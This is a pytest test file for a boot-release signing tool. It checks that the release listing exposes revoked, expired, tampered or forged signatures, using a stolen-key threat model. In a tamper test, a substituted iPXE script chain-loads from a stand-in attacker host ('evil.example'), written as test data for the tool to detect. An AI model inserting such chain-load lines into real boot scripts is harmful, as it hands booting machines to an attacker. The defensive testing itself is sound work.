"""`publish list` shows who signed each release as its release.json.sig proves it.

release.json is written by whoever can write to the origin; so is its signer field. A
thief holding a revoked signer's key and write access to the origin names a current signer
there: the listing used to show that release clean, and the operator picked it to roll
back to. Now the listing judges release.json against release.json.sig with the trust
anchors and iPXE's rules the publish gates use, shows that signature's signer, and asks the
CA index (or --crl) about it; a manifest it cannot verify is UNVERIFIED, with the reason,
never shown with the signer it claims. A release published from a directory has no
release.json.sig: its entry script's signature (what the firmware verifies) tells who
signed it, over the script the manifest records. A signature whose only fault is the clock
shows its signer, EXPIRED, and is still looked up for revocation. Against a real file://
origin and the session pki; the revocation in a copy of it made by `trustboot ca revoke`."""

from __future__ import annotations

import datetime as dt
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from cryptography import x509

from tests.cms.corpus import combine
from tests.publish.conftest import Pki, ReleaseFactory
from trustboot.cli.main import cli
from trustboot.cli.verify import load_trust
from trustboot.cms.verify import MAX_SIGNATURE_SIZE
from trustboot.publish.fileorigin import FileOrigin
from trustboot.publish.manifest import format_time
from trustboot.publish.pipeline import signed_date
from trustboot.publish.readback import Trust


def run(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


def subject(pki: Pki, name: str) -> tuple[str, str]:
    cert = x509.load_pem_x509_certificate(pki.cert(name).read_bytes())
    return cert.subject.rfc4514_string(), f"{cert.serial_number:x}"


@pytest.fixture
def origin(pki: Pki, make_release: ReleaseFactory, tmp_path: Path) -> tuple[str, Path]:
    """file:// origin with r1 and r2 (r2 live), each release.json signed by boot-signer
    (release.json.sig beside it, as `trustboot release` and `resign` publish it)."""
    srv = tmp_path / "srv"
    url = f"file://{srv}"
    for rid in ("r1", "r2"):
        release = make_release({"boot.ipxe": f"#!ipxe\necho {rid}\n".encode()})
        r = run("publish", str(release), url, "--release-id", rid, "--pki", str(pki.dir))
        assert r.exit_code == 0, r.output
        manifest = srv / "releases" / rid / "release.json"
        pki.sign([manifest], manifest.parent)
    return url, srv


def listed(url: str, *args: str) -> dict[str, dict[str, Any]]:
    r = run("publish", "list", url, "--json", *args)
    assert r.exit_code == 0, r.output
    return {i["id"]: i for i in json.loads(r.stdout)}


def line_of(output: str, rid: str) -> str:
    return next(line for line in output.splitlines() if f" {rid} " in line)


def test_a_clean_release_shows_its_signer(pki: Pki, origin: tuple[str, Path]) -> None:
    url, _ = origin
    name, serial = subject(pki, "boot-signer")
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    line = line_of(r.output, "r1")
    assert f"signer {name}" in line and "UNVERIFIED" not in line and "REVOKED" not in line
    assert f"(serial {serial})" in line
    infos = listed(url, "--pki", str(pki.dir))
    for rid in ("r1", "r2"):
        assert infos[rid]["verified"] is True and infos[rid]["unverified"] is None
        assert infos[rid]["signer"] == name and infos[rid]["signer_serial"] == serial
        assert infos[rid]["revoked"] == [] and infos[rid]["expiry"]


def test_a_manifest_naming_a_current_signer_shows_the_revoked_one_who_signed_it(
        pki: Pki, origin: tuple[str, Path], revoked_pki: Path) -> None:
    """The thief rewrites r1's release.json to name other-signer (current) and signs it
    again with the stolen boot-signer key: the signature verifies (iPXE reads no CRL), and
    the listing names boot-signer, REVOKED, not the signer the manifest claims."""
    url, srv = origin
    other, other_serial = subject(pki, "other-signer")
    real, real_serial = subject(pki, "boot-signer")
    manifest = srv / "releases" / "r1" / "release.json"
    doc = json.loads(manifest.read_text())
    doc["signer"] = doc["signer"] | {"subject": other, "serial": other_serial}
    manifest.write_text(json.dumps(doc))
    pki.sign([manifest], manifest.parent)  # the stolen key
    r = run("publish", "list", url, "--pki", str(revoked_pki))
    assert r.exit_code == 0, r.output
    line = line_of(r.output, "r1")
    assert "REVOKED" in line and "key_compromise" in line and real in line
    assert other not in r.output
    infos = listed(url, "--pki", str(revoked_pki))
    r1 = infos["r1"]
    assert r1["verified"] is True
    assert r1["signer"] == real and r1["signer_serial"] == real_serial
    assert [(x["name"], x["reason"]) for x in r1["revoked"]] == [
        ("boot-signer", "key_compromise")]


def test_every_revoked_signer_of_a_release_is_listed(pki: Pki, origin: tuple[str, Path],
                                                    tmp_path: Path) -> None:
    """release.json.sig with two signers (iPXE checks them all), both revoked: the JSON
    named only the first one, so a tool reading it missed the second revocation."""
    url, srv = origin
    held = srv / "releases" / "r1"
    other = tmp_path / "other"
    other.mkdir()
    pki.sign([held / "release.json"], other, signer="other-signer")
    (held / "release.json.sig").write_bytes(combine(
        (held / "release.json.sig").read_bytes(), (other / "release.json.sig").read_bytes()))
    copy = tmp_path / "pki3"
    shutil.copytree(pki.dir, copy, symlinks=True)
    for name, reason in (("boot-signer", "key_compromise"), ("other-signer", "superseded")):
        r = run("ca", "revoke", name, "--reason", reason, "--pki", str(copy),
                "--passphrase-file", str(pki.secrets / "ca.pass"))
        assert r.exit_code == 0, r.output
    line = line_of(run("publish", "list", url, "--pki", str(copy)).output, "r1")
    assert "REVOKED" in line and "key_compromise" in line and "superseded" in line
    infos = listed(url, "--pki", str(copy))
    r1 = infos["r1"]
    assert r1["verified"] is True and r1["state"] == "revoked"
    assert sorted((x["name"], x["reason"]) for x in r1["revoked"]) == [
        ("boot-signer", "key_compromise"), ("other-signer", "superseded")]
    assert [x["name"] for x in infos["r2"]["revoked"]] == ["boot-signer"]  # one signer
    # with the pki that revoked nothing, the list is empty (not null)
    assert listed(url, "--pki", str(pki.dir))["r1"]["revoked"] == []


def test_a_crl_alone_marks_the_real_signer(origin: tuple[str, Path], revoked_pki: Path,
                                           tmp_path: Path) -> None:
    """The roots and the CA's published CRL, no CA home: --crl says the same."""
    url, _ = origin
    infos = listed(url, "--pki", str(tmp_path / "nopki"), "--trust",
                   str(revoked_pki / "ca.crt"), "--crl", str(revoked_pki / "crl.pem"))
    assert infos["r1"]["verified"] is True
    assert [x["reason"] for x in infos["r1"]["revoked"]] == ["key_compromise"]


def test_a_tampered_manifest_is_unverified(pki: Pki, origin: tuple[str, Path]) -> None:
    """release.json changed after it was signed: its claimed signer is not shown."""
    url, srv = origin
    other, _ = subject(pki, "other-signer")
    manifest = srv / "releases" / "r1" / "release.json"
    doc = json.loads(manifest.read_text())
    doc["signer"] = doc["signer"] | {"subject": other}
    manifest.write_text(json.dumps(doc))
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    line = line_of(r.output, "r1")
    assert other not in line and "UNVERIFIED" in line and "does not verify" in line
    assert "UNVERIFIED" not in line_of(r.output, "r2")
    infos = listed(url, "--pki", str(pki.dir))
    r1 = infos["r1"]
    assert r1["verified"] is False and r1["signer"] is None and r1["expiry"] is None
    assert "does not verify" in r1["unverified"]["reason"]
    assert infos["r2"]["verified"] is True  # the others are judged on their own


@pytest.fixture
def plain(pki: Pki, make_release: ReleaseFactory, tmp_path: Path) -> tuple[str, Path]:
    """file:// origin with p1 published with plain `trustboot publish DIR` (its entry
    script and .sig signed by boot-signer, release.json unsigned) and p0 without an entry
    script at all."""
    srv = tmp_path / "plain"
    url = f"file://{srv}"
    bare = make_release({"vmlinuz": b"kernel" * 100})
    r = run("publish", str(bare), url, "--release-id", "p0", "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    release = make_release({"boot.ipxe": b"#!ipxe\necho plain\n"})
    r = run("publish", str(release), url, "--release-id", "p1", "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    assert not (srv / "releases" / "p1" / "release.json.sig").exists()
    return url, srv


def test_a_plain_published_release_shows_its_entry_signer(
        pki: Pki, plain: tuple[str, Path]) -> None:
    """No release.json.sig: the entry script's signature proves the signer, and the row
    says so; a release with no entry script stays UNVERIFIED, saying why."""
    url, _ = plain
    name, serial = subject(pki, "boot-signer")
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    line = line_of(r.output, "p1")
    assert f"signer {name} (serial {serial}, by its entry script's signature)" in line
    assert "UNVERIFIED" not in line and "expires -" not in line
    bare = line_of(r.output, "p0")
    assert "UNVERIFIED" in bare and "no entry script" in bare and "signer -" in bare
    infos = listed(url, "--pki", str(pki.dir))
    p1 = infos["p1"]
    assert p1["verified"] is True and p1["verified_by"] == "entry"
    assert p1["state"] == "verified" and p1["unverified"] is None
    assert p1["signer"] == name and p1["signer_serial"] == serial and p1["expiry"]
    p0 = infos["p0"]
    assert p0["verified"] is False and p0["verified_by"] is None and p0["signer"] is None
    assert p0["unverified"]["rule"] == "manifest-unsigned" and p0["state"] == "unverified"


def test_a_signed_manifest_says_it_proved_the_signer(
        pki: Pki, origin: tuple[str, Path]) -> None:
    url, _ = origin
    infos = listed(url, "--pki", str(pki.dir))
    assert infos["r1"]["verified_by"] == "manifest"
    assert infos["r1"]["created_proven"] is True
    assert infos["r1"]["created_unproven"] is None
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert "by its entry script" not in line_of(r.output, "r1")
    assert "(date un" not in line_of(r.output, "r1")


def test_an_entry_verified_release_marks_its_date_unsigned(
        pki: Pki, plain: tuple[str, Path], origin: tuple[str, Path],
        revoked_pki: Path) -> None:
    """A plain release's signer is proven by its entry script's .sig, which signs no
    date: the `created` beside "verified" is release.json's unsigned claim, and the row
    says so; so does an unverified row. A date a revoked signer signed proves nothing."""
    url, srv = plain
    doc = json.loads((srv / "releases" / "p1" / "release.json").read_text())
    doc["created"] = "2030-01-01T00:00:00Z"  # anyone who writes to the origin
    (srv / "releases" / "p1" / "release.json").write_text(json.dumps(doc))
    infos = listed(url, "--pki", str(pki.dir))
    p1 = infos["p1"]
    assert p1["verified"] is True and p1["verified_by"] == "entry"
    assert p1["created_proven"] is False and p1["created"].startswith("2030-01-01")
    assert infos["p0"]["created_proven"] is False
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert "2030-01-01 00:00 (date unsigned)" in line_of(r.output, "p1")
    assert "(date unsigned)" in line_of(r.output, "p0")
    revoked = listed(origin[0], "--pki", str(revoked_pki))["r1"]
    assert revoked["verified_by"] == "manifest" and revoked["created_proven"] is False
    assert revoked["created_unproven"] == "its signer is revoked"
    assert p1["created_unproven"] is None and infos["p0"]["created_unproven"] is None
    r = run("publish", "list", origin[0], "--pki", str(revoked_pki))
    assert "(date unproven: its signer is revoked)" in line_of(r.output, "r1")


@pytest.mark.parametrize("change", ["script", "same-size-script", "signature",
                                    "unsigned-manifest-follows"])
def test_a_tampered_entry_of_a_plain_release_is_unverified(
        pki: Pki, plain: tuple[str, Path], tmp_path: Path, change: str) -> None:
    """The entry script changed on the origin (its .sig kept), its .sig replaced by one
    over another script, or the script changed and the unsigned release.json edited to
    record it: UNVERIFIED, no signer shown."""
    url, srv = plain
    rel = srv / "releases" / "p1"
    script = rel / "boot.ipxe"
    evil = b"#!ipxe\nchain http://evil.example/x\n"
    if change == "same-size-script":
        evil = script.read_bytes().replace(b"plain", b"evil!")
    if change == "signature":
        other = tmp_path / "other" / "boot.ipxe"
        other.parent.mkdir()
        other.write_bytes(evil)
        pki.sign([other], other.parent)
        (rel / "boot.ipxe.sig").write_bytes((other.parent / "boot.ipxe.sig").read_bytes())
    else:
        script.write_bytes(evil)
    if change == "unsigned-manifest-follows":
        import hashlib

        doc = json.loads((rel / "release.json").read_text())
        for f in doc["files"]:
            if f["name"] == "boot.ipxe":
                f["size"], f["sha256"] = len(evil), hashlib.sha256(evil).hexdigest()
        (rel / "release.json").write_text(json.dumps(doc))
    infos = listed(url, "--pki", str(pki.dir))
    p1 = infos["p1"]
    assert p1["verified"] is False and p1["signer"] is None and p1["expiry"] is None
    assert p1["state"] == "unverified" and p1["verified_by"] is None
    expected = {"script": "entry-changed", "same-size-script": "entry-changed",
                "signature": "signature-mismatch",
                "unsigned-manifest-follows": "signature-mismatch"}[change]
    assert p1["unverified"]["rule"] == expected, p1
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert "UNVERIFIED" in line_of(r.output, "p1")


def test_a_plain_release_whose_entry_is_gone_is_unverified(
        pki: Pki, plain: tuple[str, Path]) -> None:
    url, srv = plain
    (srv / "releases" / "p1" / "boot.ipxe.sig").unlink()
    p1 = listed(url, "--pki", str(pki.dir))["p1"]
    assert p1["signer"] is None and p1["unverified"]["rule"] == "entry-missing"
    assert "boot.ipxe.sig" in p1["unverified"]["reason"]


def test_a_missing_manifest_signature_is_not_the_entry_s_when_it_fails(
        pki: Pki, origin: tuple[str, Path]) -> None:
    """A release.json.sig that is there but does not verify is never replaced by the
    entry's: a manifest changed on the origin is a finding of its own."""
    url, srv = origin
    manifest = srv / "releases" / "r1" / "release.json"
    manifest.write_text(manifest.read_text().replace('"version"', ' "version"', 1))
    r1 = listed(url, "--pki", str(pki.dir))["r1"]
    assert r1["verified"] is False and r1["signer"] is None
    assert r1["unverified"]["rule"] == "signature-mismatch"


def clock(monkeypatch: pytest.MonkeyPatch, pki: Pki, after: dt.timedelta) -> dt.datetime:
    """The CLI's clock ``after`` boot-signer's notAfter; returns that notAfter."""
    cert = x509.load_pem_x509_certificate(pki.cert("boot-signer").read_bytes())
    end = cert.not_valid_after_utc
    monkeypatch.setattr("trustboot.cli.publish.utc_now", lambda: end + after)
    return end


@pytest.mark.parametrize("after", [dt.timedelta(days=1), dt.timedelta(hours=1)],
                         ids=["ipxe-refuses", "within-ipxe-margin"])
def test_an_expired_signer_shows_expired_with_its_signer(
        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path],
        monkeypatch: pytest.MonkeyPatch, after: dt.timedelta) -> None:
    """A day after boot-signer's notAfter iPXE refuses the signatures (rule expired); an
    hour after, iPXE's margin still takes them and the gates do not. Either way the row
    shows who signed it, its serial and its chain's end, EXPIRED, not UNVERIFIED: those
    are the releases an operator rules out before a rollback. For a signed manifest and
    for a plain release's entry alike."""
    end = clock(monkeypatch, pki, after)
    name, serial = subject(pki, "boot-signer")
    for url, rid, by in ((origin[0], "r1", "manifest"), (plain[0], "p1", "entry")):
        r = run("publish", "list", url, "--pki", str(pki.dir))
        assert r.exit_code == 0, r.output
        line = line_of(r.output, rid)
        assert f"signer {name} (serial {serial}" in line, line
        assert f"expires {end:%Y-%m-%d}" in line and "EXPIRED" in line, line
        assert "UNVERIFIED" not in line and "REVOKED" not in line
        info = listed(url, "--pki", str(pki.dir))[rid]
        assert info["state"] == "expired" and info["verified"] is False, info
        assert info["unverified"] is None and info["verified_by"] == by
        assert info["signer"] == name and info["signer_serial"] == serial
        assert info["expiry"] == end.isoformat()
        assert info["expired"]["rule"] == "expired" and info["revoked"] == []


def test_an_expired_and_revoked_signer_shows_revoked(
        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path], revoked_pki: Path,
        monkeypatch: pytest.MonkeyPatch) -> None:
    """An expired signer is still looked up: revoked wins in the row."""
    clock(monkeypatch, pki, dt.timedelta(days=1))
    for url, rid in ((origin[0], "r1"), (plain[0], "p1")):
        r = run("publish", "list", url, "--pki", str(revoked_pki))
        assert r.exit_code == 0, r.output
        line = line_of(r.output, rid)
        assert "REVOKED" in line and "key_compromise" in line and "EXPIRED" not in line
        info = listed(url, "--pki", str(revoked_pki))[rid]
        assert info["state"] == "revoked"
        assert [x["name"] for x in info["revoked"]] == ["boot-signer"]
        assert info["expired"]["rule"] == "expired"  # (both, in --json)


def test_an_expired_signature_that_does_not_match_is_unverified(
        pki: Pki, origin: tuple[str, Path], plain: tuple[str, Path],
        monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the signer's expiry a changed release.json, or a changed entry script whose
    unsigned manifest was edited to match, is still UNVERIFIED (the signature does not
    match), never EXPIRED with a signer."""
    import hashlib

    clock(monkeypatch, pki, dt.timedelta(days=1))
    url, srv = origin
    manifest = srv / "releases" / "r1" / "release.json"
    manifest.write_text(manifest.read_text().replace('"version"', ' "version"', 1))
    r1 = listed(url, "--pki", str(pki.dir))["r1"]
    assert r1["state"] == "unverified" and r1["signer"] is None and r1["expired"] is None
    assert r1["unverified"]["rule"] == "signature-mismatch"
    url, srv = plain
    rel = srv / "releases" / "p1"
    evil = b"#!ipxe\nshell\n"
    (rel / "boot.ipxe").write_bytes(evil)
    doc = json.loads((rel / "release.json").read_text())
    doc["files"] = [f | {"size": len(evil), "sha256": hashlib.sha256(evil).hexdigest()}
                    if f["name"] == "boot.ipxe" else f for f in doc["files"]]
    (rel / "release.json").write_text(json.dumps(doc))
    p1 = listed(url, "--pki", str(pki.dir))["p1"]
    assert p1["state"] == "unverified" and p1["signer"] is None
    assert p1["unverified"]["rule"] == "signature-mismatch"


@pytest.mark.parametrize("sig", ["huge", "garbage", "empty", "truncated", "directory"])
def test_a_hostile_signature_is_unverified_not_a_crash(
        pki: Pki, origin: tuple[str, Path], sig: str) -> None:
    """Whatever the origin has as release.json.sig, the listing goes on: that release is
    UNVERIFIED with the reason, the other one verified."""
    url, srv = origin
    path = srv / "releases" / "r1" / "release.json.sig"
    real = path.read_bytes()
    if sig == "directory":
        path.unlink()
        path.mkdir()
        (path / "x").write_bytes(real)
    else:
        path.write_bytes({"huge": b"\x30" * (MAX_SIGNATURE_SIZE + 1), "garbage": b"\x30\x82junk",
                          "empty": b"", "truncated": real[: len(real) // 2]}[sig])
    r = run("publish", "list", url, "--pki", str(pki.dir), "--json")
    assert r.exit_code == 0, r.output
    infos = {i["id"]: i for i in json.loads(r.stdout)}
    if sig == "directory":  # no object release.json.sig: judged as a plain release
        assert infos["r1"]["verified_by"] == "entry" and infos["r2"]["verified"] is True
        return
    assert infos["r1"]["verified"] is False and infos["r1"]["signer"] is None
    assert infos["r1"]["unverified"]["reason"], infos["r1"]
    assert infos["r2"]["verified"] is True
    if sig == "huge":
        assert str(MAX_SIGNATURE_SIZE) in infos["r1"]["unverified"]["reason"]


def test_no_trust_anchors_lists_every_release_unverified(
        origin: tuple[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """No --trust and no CA home: nothing to judge with. The listing still lists (exit 0),
    every release UNVERIFIED, saying what to pass."""
    url, _ = origin
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("TRUSTBOOT_PKI", raising=False)
    r = run("publish", "list", url, "--json")
    assert r.exit_code == 0, r.output
    infos = json.loads(r.stdout)
    assert {i["id"] for i in infos} == {"r1", "r2"}
    assert all(i["unverified"]["rule"] == "no-trust-anchors" and i["signer"] is None
               for i in infos)
    assert "--trust" in infos[0]["unverified"]["reason"]


def test_reads_per_release_are_bounded(pki: Pki, origin: tuple[str, Path],
                                       plain: tuple[str, Path],
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """Each release's manifest and its .sig, read once each; a release without one, its
    entry script and the entry's .sig, once each; an entry-less one, nothing more. The
    presence of each comes from the listing of releases/ the command makes anyway."""
    url, srv = origin
    (srv / "releases" / "r2" / "release.json.sig").unlink()  # judged by its entry
    reads: list[str] = []
    real = FileOrigin.read

    def counted(self: FileOrigin, key: str, *, max_size: int) -> Any:
        reads.append(key)
        return real(self, key, max_size=max_size)

    monkeypatch.setattr(FileOrigin, "read", counted)
    listed(url, "--pki", str(pki.dir))
    release_reads = sorted(k for k in reads if k.startswith("releases/"))
    assert release_reads == ["releases/r1/release.json", "releases/r1/release.json.sig",
                             "releases/r2/boot.ipxe", "releases/r2/boot.ipxe.sig",
                             "releases/r2/release.json"], reads
    reads.clear()
    listed(plain[0], "--pki", str(pki.dir))
    release_reads = sorted(k for k in reads if k.startswith("releases/"))
    assert release_reads == ["releases/p0/release.json", "releases/p1/boot.ipxe",
                             "releases/p1/boot.ipxe.sig", "releases/p1/release.json"], reads


def test_a_signer_not_valid_yet_shows_its_signer_too(
        pki: Pki, origin: tuple[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """A clock before the signer's notBefore (a host whose clock lags): the same as an
    expired one, the clock's rule named. Its date, after that clock, is unproven (as
    repair and resign judge it at that clock), saying so, not a state of its own."""
    cert = x509.load_pem_x509_certificate(pki.cert("boot-signer").read_bytes())
    before = cert.not_valid_before_utc - dt.timedelta(days=2)
    monkeypatch.setattr("trustboot.cli.publish.utc_now", lambda: before)
    name, serial = subject(pki, "boot-signer")
    r1 = listed(origin[0], "--pki", str(pki.dir))["r1"]
    assert r1["state"] == "expired" and r1["expired"]["rule"] == "not-yet-valid", r1
    assert r1["signer"] == name and r1["signer_serial"] == serial
    assert r1["created_proven"] is False
    assert "after this host's clock" in r1["created_unproven"], r1


def test_a_manifest_dated_after_its_signer_expired_is_unverified(
        pki: Pki, origin: tuple[str, Path], monkeypatch: pytest.MonkeyPatch) -> None:
    """A key leaked after its certificate ended signs a release.json dated after that
    end: the signature verifies at no date the manifest states, so the row is UNVERIFIED
    with that reason (signed_date proves no date for it either), never EXPIRED with the
    expired key's signer as if it had signed it while valid. r2, dated within the
    signer's validity, still lists EXPIRED with its signer."""
    end = clock(monkeypatch, pki, dt.timedelta(days=2))
    name, _ = subject(pki, "boot-signer")
    url, srv = origin
    manifest = srv / "releases" / "r1" / "release.json"
    doc = json.loads(manifest.read_text())
    doc["created"] = format_time(end + dt.timedelta(days=1))
    manifest.write_text(json.dumps(doc))
    pki.sign([manifest], manifest.parent)  # the leaked key
    r = run("publish", "list", url, "--pki", str(pki.dir))
    assert r.exit_code == 0, r.output
    line = line_of(r.output, "r1")
    assert "UNVERIFIED" in line and "outside its signer's validity" in line, line
    assert "EXPIRED" not in line and name not in line
    infos = listed(url, "--pki", str(pki.dir))
    r1 = infos["r1"]
    assert r1["state"] == "unverified" and r1["signer"] is None and r1["expired"] is None
    assert r1["unverified"]["rule"] == "created-outside-validity", r1
    assert infos["r2"]["state"] == "expired" and infos["r2"]["signer"] == name
    trust = Trust(tuple(load_trust((), pki.dir)))
    sig = (manifest.parent / "release.json.sig").read_bytes()
    later = end + dt.timedelta(days=2)
    assert signed_date(sig, manifest.read_bytes(), "r1", trust=trust, now=later,
                       source="r1") is None
    kept = srv / "releases" / "r2" / "release.json"
    dated = signed_date((kept.parent / "release.json.sig").read_bytes(), kept.read_bytes(),
                        "r2", trust=trust, now=later, source="r2")
    assert dated is not None and dated[1][0].subject == name


@pytest.mark.parametrize("when", ["normal", "backdated-a-day", "backdated-an-hour",
                                  "future"])
def test_a_date_its_signer_could_not_sign_lists_unproven(
        pki: Pki, origin: tuple[str, Path], when: str) -> None:
    """boot-signer, valid now, re-signs r1's release.json with a date before its own
    notBefore (a day: iPXE's chain check refuses that date; an hour: within iPXE's
    12h30m margin, outside the certificate) or a day in the future. The signature
    verifies, so the row stays VERIFIED with its signer, but the date is unproven, with
    why: the listing proves a date exactly when repair and resign do (signed_date),
    never a date they would not count. A manifest dated now (re-signed the same way)
    stays proven."""
    url, srv = origin
    name, _ = subject(pki, "boot-signer")
    cert = x509.load_pem_x509_certificate(pki.cert("boot-signer").read_bytes())
    now = dt.datetime.now(dt.UTC)
    created = {"normal": now - dt.timedelta(minutes=1),
               "backdated-a-day": cert.not_valid_before_utc - dt.timedelta(days=1),
               "backdated-an-hour": cert.not_valid_before_utc - dt.timedelta(hours=1),
               "future": now + dt.timedelta(days=1)}[when]
    manifest = srv / "releases" / "r1" / "release.json"
    doc = json.loads(manifest.read_text())
    doc["created"] = format_time(created)
    manifest.write_text(json.dumps(doc))
    pki.sign([manifest], manifest.parent)
    infos = listed(url, "--pki", str(pki.dir))
    r1 = infos["r1"]
    assert r1["state"] == "verified" and r1["verified"] is True, r1
    assert r1["signer"] == name and r1["verified_by"] == "manifest"
    proven = when == "normal"
    assert r1["created_proven"] is proven, r1
    why = {"normal": None, "future": "after this host's clock",
           "backdated-a-day": "does not verify at the date it signs",
           "backdated-an-hour": "outside its signer"}[when]
    if why is None:
        assert r1["created_unproven"] is None
    else:
        assert why in r1["created_unproven"], r1
    assert infos["r2"]["created_proven"] is True  # (the other release, untouched)
    trust = Trust(tuple(load_trust((), pki.dir)))
    sig = (manifest.parent / "release.json.sig").read_bytes()
    assert (signed_date(sig, manifest.read_bytes(), "r1", trust=trust,
                        now=dt.datetime.now(dt.UTC), source="r1") is not None) is proven
    r = run("publish", "list", url, "--pki", str(pki.dir))
    line = line_of(r.output, "r1")
    assert f"{created:%Y-%m-%d %H:%M}" in line
    assert ("(date unproven: " in line) is not proven, line
    assert "UNVERIFIED" not in line and "EXPIRED" not in line and name in line
